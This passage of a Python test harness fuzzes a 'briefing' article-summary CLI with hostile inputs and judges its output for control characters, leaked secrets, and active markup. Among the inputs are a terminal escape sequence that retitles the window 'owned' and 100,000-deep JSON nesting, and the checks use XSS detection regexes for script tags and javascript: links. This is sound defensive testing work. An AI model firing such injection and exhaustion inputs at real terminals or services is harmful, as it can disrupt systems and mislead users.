            if not os.path.islink(path):
                os.chmod(path, stat.S_IRWXU)


# --- Standard input ------------------------------------------------------------------------------


def stdin_payloads(seed: int, number: int) -> list[Hostile]:
    """Bytes for `briefing brief -`: each bad as a whole, each one warning naming `-`."""
    rng = random.Random(f"stdin/{seed}/{number}")
    story = rng.choice(STORIES)
    payloads = {
        "stdin-undecodable": b"\xff\xfe\xfa not text \x80\x81" + bytes(rng.randrange(128, 256)
                                                                        for _ in range(64)),
        "stdin-latin1": story.replace("e", "\xe9").encode("latin-1"),
        "stdin-binary": b"\x00" * 10 + bytes(rng.randrange(256) for _ in range(500)),
        "stdin-deep-json": b"[" * 100_000 + b"]" * 100_000,
        "stdin-empty": rng.choice((b"", b"\n", b"   \t\n")),
        "stdin-bom-only": b"\xef\xbb\xbf",
        "stdin-escapes-only": b"\x1b[2J\x1b[H\x1b]0;owned\x07\x07\x07",
        "stdin-json-garbage": b'{"text": null, "title": 5}\n{"body": [[]]}\n',
    }
    return [Hostile(name, "-", stdin=data) for name, data in payloads.items()]


# --- Hypothesis: arbitrary JSON article records --------------------------------------------------

_FIELD_NAMES = ("text", "body", "content", "title", "headline", "url", "link", "source", "site",
                "published", "date", "publishedAt", "pubDate", "author", "authors", "byline",
                "articles", "name")

surrogates = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF)
hostile_chars = st.one_of(
    st.characters(codec="utf-8"),
    st.sampled_from("\x1b\x00\x07\x08\r\n\t\x7f\x85\x9b\u2028\u202e\u2066\ufeff\u200b"),
    surrogates,
)
hostile_text = st.text(hostile_chars, max_size=80)
huge_ints = st.one_of(st.integers(), st.integers(min_value=10**300, max_value=10**400),
                      st.just("@@DIGITS5000@@"), st.integers(min_value=-(10**40), max_value=-1))
dates = st.one_of(
    st.datetimes().map(lambda d: d.isoformat()),
    st.sampled_from(("0000-00-00", "9999-12-31T99:99", "2026-11-21 09:30",
                     "2026-11-21T09:30:00+14:00", "2026-11-21T09:30:00Z", "Fri, 20 Nov 2026",
                     "NaN", "")),
    st.floats(allow_nan=True, allow_infinity=True),
    huge_ints,
)
scalars = st.one_of(st.none(), st.booleans(), huge_ints, st.floats(), hostile_text, dates)


def _nested(depth: int) -> str:
    return f"@@DEEP{depth}@@"  # dump_records writes it as `depth` nested lists


json_values = st.recursive(
    scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4),
                            st.dictionaries(st.sampled_from(_FIELD_NAMES) | hostile_text, inner,
                                            max_size=4)),
    max_leaves=12,
) | st.integers(min_value=50, max_value=200_000).map(_nested)


def json_records() -> st.SearchStrategy[object]:
    """One JSON article record with hostile fields: wrong types, surrogates, huge numbers."""
    record = st.fixed_dictionaries(
        {},
        optional={name: json_values for name in _FIELD_NAMES},
    )
    return st.one_of(record, json_values)


def dump_records(records: list[object]) -> bytes:
    """JSON text of hostile records, lone surrogates written as \\udfff escapes."""
    text = json.dumps(records, ensure_ascii=True, allow_nan=True)
    text = re.sub(r'"@@DEEP(\d+)@@"', lambda m: "[" * int(m[1]) + "]" * int(m[1]), text)
    text = text.replace('"@@DIGITS5000@@"', "9" * 5000)  # a number json.dumps refuses to write
    return text.encode()


# --- Running a batch and judging what came out ---------------------------------------------------

FORMATS = ("text", "md", "html", "json")
SUBPROCESS_TIMEOUT = 60  # seconds; a FIFO or a symlink loop must not hang the caller
MEMORY_LIMIT = 4 * 2**30  # bytes of address space for a subprocess (a /dev/zero read)

# C0 and C1 controls but newline and tab, DEL, the bidirectional overrides and isolates, and
# lone surrogates: none of them may reach a terminal, a mail or a file.
_FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
_RENDERED_LINK = re.compile(r"<(?:a|img)\s[^>]*(?:href|src)\s*=\s*\"\s*(?:java|vb)script:|"
                            r"<(?:a|img)\s[^>]*(?:href|src)\s*=\s*\"\s*data:", re.IGNORECASE)
_HTML_ACTIVE = re.compile(r"<\s*(?:script|iframe|object|embed)\b|<[^>]*\son\w+\s*=|"
                          r"<[^>]*(?:href|src)\s*=\s*[\"']?\s*(?:java|vb)script:", re.IGNORECASE)


@dataclass
class Outcome:
    """What one run of `briefing brief` did, and what was wrong with it."""

    inputs: list[Hostile]
    fmt: str
    exit_code: int | str  # "timeout" when it did not finish
    stdout: bytes
    stderr: bytes
    seconds: float = 0.0
    missing_good: list[str] = field(default_factory=list)
    bad_warnings: dict[int, list[str]] = field(default_factory=dict)  # input index -> its lines
    problems: list[str] = field(default_factory=list)  # whole-run problems

    @property
    def brief_made(self) -> bool:
        return self.exit_code == 0

    @property
    def ok(self) -> bool:
        return self.brief_made and not self.missing_good and not self.bad_warnings \
            and not self.problems

    def report(self) -> str:
        lines = [f"format {self.fmt}, exit {self.exit_code}, {self.seconds:.1f} s"]
        lines += [f"good article not cited: {name}" for name in self.missing_good]
        for i, found in self.bad_warnings.items():
            h = self.inputs[i]
            lines.append(f"{h.kind} {h.token}: {len(found)} warning line(s), expected "
                         f"{h.expect[0]}-{h.expect[1]} showing {h.shown or 'its name'}: "
                         f"{found[:3]}{' ...' if len(found) > 3 else ''}")
        lines += self.problems
        if not self.brief_made:
            lines.append("stderr: " + self.stderr.decode("utf-8", "backslashreplace")[-2000:])
        return "\n".join(lines)


def judge(outcome: Outcome) -> Outcome:
    """Fill in what was wrong: exit code, citations, warning lines, bytes in the output."""
    out = outcome
    try:
        stdout = out.stdout.decode("utf-8")
    except UnicodeDecodeError as error:
        out.problems.append(f"stdout is not UTF-8: {error}")
        stdout = out.stdout.decode("utf-8", "surrogateescape")
    try:
        stderr = out.stderr.decode("utf-8")
    except UnicodeDecodeError as error:
        out.problems.append(f"stderr is not UTF-8: {error}")
        stderr = out.stderr.decode("utf-8", "surrogateescape")
    for name, text in (("stdout", stdout), ("stderr", stderr)):
        bad = sorted({f"U+{ord(c):04X}" for c in _FORBIDDEN.findall(text)})
        if bad:
            out.problems.append(f"control characters in {name}: {', '.join(bad)}")
        for h in out.inputs:
            if h.secret and h.secret in text:
                out.problems.append(f"{h.kind} {h.token}: {h.secret!r} leaked into {name}")
    if "Traceback" in stderr:
        out.problems.append("a traceback on stderr")
    _judge_warnings(out, stderr)
    if out.brief_made:
        _judge_output(out, stdout)
    return out


def _judge_warnings(out: Outcome, stderr: str) -> None:
    lines = stderr.splitlines()
    mine: dict[int, list[str]] = {i: [] for i in range(len(out.inputs))}
    stdin_runs = [i for i, h in enumerate(out.inputs) if h.is_stdin]
    for line in lines:
        if not line.startswith("warning: "):
            if out.brief_made:
                out.problems.append(f"a stderr line that is not a warning: {line[:200]!r}")
            continue
        named = [i for i, h in enumerate(out.inputs) if not h.is_stdin and h.token in line]
        if any(g.name in line for g in GOOD):
            out.problems.append(f"a warning names a good article: {line[:200]!r}")
        elif len(named) == 1:
            mine[named[0]].append(line)
        elif not named and stdin_runs:
            mine[stdin_runs[0]].append(line)
        else:
            out.problems.append(f"a warning names {len(named)} inputs: {line[:200]!r}")
    for i, found in mine.items():
        h = out.inputs[i]
        low, high = h.expect
        right = low <= len(found) <= high
        right = right and all(all(part in line for part in h.shown) for line in found)
        once = h.extra.get("once")
        if once:
            right = right and sum(once in line for line in found) == 1
        if not right:
            out.bad_warnings[i] = found


def _collapsed(text: str) -> str:
    return " ".join(text.split())


def _cited(out: Outcome, stdout: str) -> None:
    if out.fmt == "json":
        try:
            data = json.loads(stdout)
        except ValueError as error:
            out.problems.append(f"the JSON output does not parse: {error}")
            return
        _check_strings(out, data)
        refs = data.get("sources") or []
        for good in GOOD:
            if not any(str(ref.get("origin", "")).endswith(good.name) or ref.get("title") ==
                       good.title or (good.url and ref.get("url") == good.url) for ref in refs):
                out.missing_good.append(good.name)
        return
    shown = stdout
    if out.fmt == "html":
        shown = html.unescape(re.sub(r"<[^>]*>", " ", stdout))
        bad = sorted({f"U+{ord(c):04X}" for c in _FORBIDDEN.findall(shown)})
        if bad:
            out.problems.append(f"control characters in the HTML's text: {', '.join(bad)}")
    if out.fmt == "md":
        shown = shown.replace("\\", "")
    shown = _collapsed(shown)
    for good in GOOD:
        sentences = [s for p in good.paragraphs for s in re.split(r"(?<=[.!?])\s+", p)]
        if not any(_collapsed(s)[:40] in shown for s in [good.title, *sentences]):
            out.missing_good.append(good.name)


def _check_strings(out: Outcome, value: object) -> None:
    if isinstance(value, str):
        bad = _FORBIDDEN.findall(value)
        if bad:
            out.problems.append(f"control characters in a JSON string: {value[:120]!r}")
    elif isinstance(value, list):
        for item in value:
            _check_strings(out, item)
    elif isinstance(value, dict):
        for key, item in value.items():
            _check_strings(out, key)
            _check_strings(out, item)


def _judge_output(out: Outcome, stdout: str) -> None:
    _cited(out, stdout)
    if out.fmt == "md":
        # What a reader's Markdown viewer makes of it: `\<script\>` is text, `<script>` a tag.
        from markdown_it import MarkdownIt

        shown = MarkdownIt("commonmark").render(stdout)
        found = _HTML_ACTIVE.search(shown) or _RENDERED_LINK.search(shown)
        if found is not None:
            out.problems.append(f"active markup in the Markdown: {shown[found.start():][:80]!r}")
    if out.fmt == "html" and _HTML_ACTIVE.search(stdout):
        found = _HTML_ACTIVE.search(stdout)
        assert found is not None
        out.problems.append(f"active markup in the HTML: {stdout[found.start():][:80]!r}")
    if out.fmt == "text":
        lines = stdout.splitlines()
        # A source's web address is never cut (the link must work): alone on its line, it may
        # be longer than the page is wide.
        wide = [line for line in lines if len(line) > 72
                and not re.fullmatch(r"(\[\d+\] )?https?://\S+", line.strip())]
        if wide:
            out.problems.append(f"{len(wide)} text line(s) over 72 characters: {wide[0][:100]!r}")
        if len(lines) > 66:
            out.problems.append(f"the text brief is {len(lines)} lines, over one page (66)")


def run_subprocess(args: list[str], *, stdin: bytes = b"", env: dict[str, str] | None = None,
                   timeout: float = SUBPROCESS_TIMEOUT) -> tuple[int | str, bytes, bytes, float]:
    """`python -m briefing ARGS` with a memory cap and a timeout: (exit code, out, err, s)."""
    import resource
    import subprocess
    import sys
    import time

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))

    started = time.perf_counter()
    process = subprocess.Popen(
        [sys.executable, "-m", "briefing", *args], stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=limit,
        start_new_session=True, env=env,
    )
    try:
        out, err = process.communicate(stdin, timeout=timeout)
        code: int | str = process.returncode
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, 9)
        out, err = process.communicate()
        code = "timeout"
    return code, out, err, time.perf_counter() - started
